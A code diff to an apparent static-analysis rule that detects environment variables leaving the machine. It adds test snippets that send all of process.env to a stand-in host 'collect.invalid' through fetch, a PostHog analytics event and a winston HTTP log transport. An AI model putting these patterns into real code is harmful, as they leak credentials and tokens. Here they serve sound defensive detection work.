@@ -1,3 +1,4 @@
+import { entrusted } from '../src/define/entrusted.js';
 import { bodyLabels, defineRule, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
 import type { Call, FileContext, Label } from '../src/types.js';
 
@@ -27,8 +28,24 @@ export default defineRule({
         title: 'it is collected in a loop',
         code: `let all = '';\nfor (const key in process.env) all += key + '=' + process.env[key] + ';';\nfetch('https://collect.invalid/?q=' + encodeURIComponent(all));`,
       },
+      {
+        title: 'it is an event of somebody’s statistics',
+        code: `const { PostHog } = require('posthog-node');\nconst stats = new PostHog('phc_a1b2c3d4e5f6a7b8', { host: 'https://collect.invalid' });\nstats.capture({ distinctId: 'a', event: 'start', properties: { env: process.env } });`,
+      },
+      {
+        title: 'it is logged, and the log is kept elsewhere',
+        code: `const winston = require('winston');\nconst log = winston.createLogger({ transports: [new winston.transports.Http({ host: 'collect.invalid', path: '/l' })] });\nlog.info(JSON.stringify(process.env));`,
+      },
     ],
     passes: [
+      {
+        title: 'an error report goes where the project wants it',
+        code: `const Sentry = require('@sentry/node');\nSentry.init({ dsn: process.env.SENTRY_DSN });\nSentry.setExtras({ env: process.env });`,
+      },
+      {
+        title: 'it is logged on this machine',
+        code: `const winston = require('winston');\nconst log = winston.createLogger({ transports: [new winston.transports.File({ filename: 'start.log' })] });\nlog.debug({ env: process.env });`,
+      },
       {
         title: 'a parser looks names up in it',
         code: `const { parse } = require('shell-quote');\nconst [command, address] = parse(process.argv[2], process.env);\nfetch('https://api.invalid/' + address);`,
@@ -59,6 +76,15 @@ export default defineRule({
       if (!label || !leaves(context, call, label)) continue;
       context.report({
         messageId: messageOf(context, label),
+        data: { sink: call.name },
+        chain: [...stepsOf(label), step('sink', sinkSays(call), context.file, call.node)],
+      });
+    }
+    for (const { call, labels } of entrusted(context)) {
+      const label = labels.find(({ kind }) => kind === 'environment');
+      if (!label) continue;
+      context.report({
+        messageId: label.guesses ? 'likely' : 'sent',
         data: { sink: call.name },
         chain: [...stepsOf(label), step('sink', sinkSays(call), context.file, call.node)],
       });
